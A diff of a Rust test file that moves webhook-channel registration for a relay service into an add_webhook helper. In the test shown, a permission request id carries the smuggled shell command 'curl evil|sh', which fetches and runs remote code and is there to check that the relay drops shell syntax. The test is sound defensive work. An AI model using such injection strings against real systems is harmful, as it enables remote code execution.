@@ -59,6 +59,24 @@ pub(crate) async fn receiver() -> Result<(String, mpsc::UnboundedReceiver<(Vec<u
     Ok((url, rx))
 }
 
+/// Adds the caller's webhook channel `hook` for `url`, signed with [`SECRET`].
+pub(crate) async fn add_webhook(conn: &quinn::Connection, url: String) -> Result<ChannelInfo> {
+    let spec = ChannelSpec {
+        name: "hook".into(),
+        target: ChannelTarget::Webhook { url },
+        secret: Some(SECRET.into()),
+        events: vec![],
+        quiet: None,
+        ignore_presence: false,
+    };
+    Ok(client::request(
+        conn,
+        &StreamHeader::new(Op::NotifyAdd, ReqId(1)),
+        Some(&spec),
+    )
+    .await?)
+}
+
 pub(crate) fn permission(session: &str, request: &str) -> Control {
     Control::Attention {
         attention: Attention {
@@ -91,20 +109,7 @@ async fn ten_permission_requests_in_a_second_make_one_signed_notification_saying
     let (_agent, control) = session_agent(&relay).await?;
     let cred = relay.login_owner().await?;
     let op = operator(&relay.addr_str(), &relay.state.pin, &cred).await?;
-    let spec = ChannelSpec {
-        name: "hook".into(),
-        target: ChannelTarget::Webhook { url },
-        secret: Some(SECRET.into()),
-        events: vec![],
-        quiet: None,
-        ignore_presence: false,
-    };
-    let _: ChannelInfo = client::request(
-        &op.conn,
-        &StreamHeader::new(Op::NotifyAdd, ReqId(1)),
-        Some(&spec),
-    )
-    .await?;
+    add_webhook(&op.conn, url).await?;
 
     // Shell syntax in a request id: dropped at the relay.
     tell_relay(&control, permission("ses_2", "per_1;curl evil|sh")).await?;
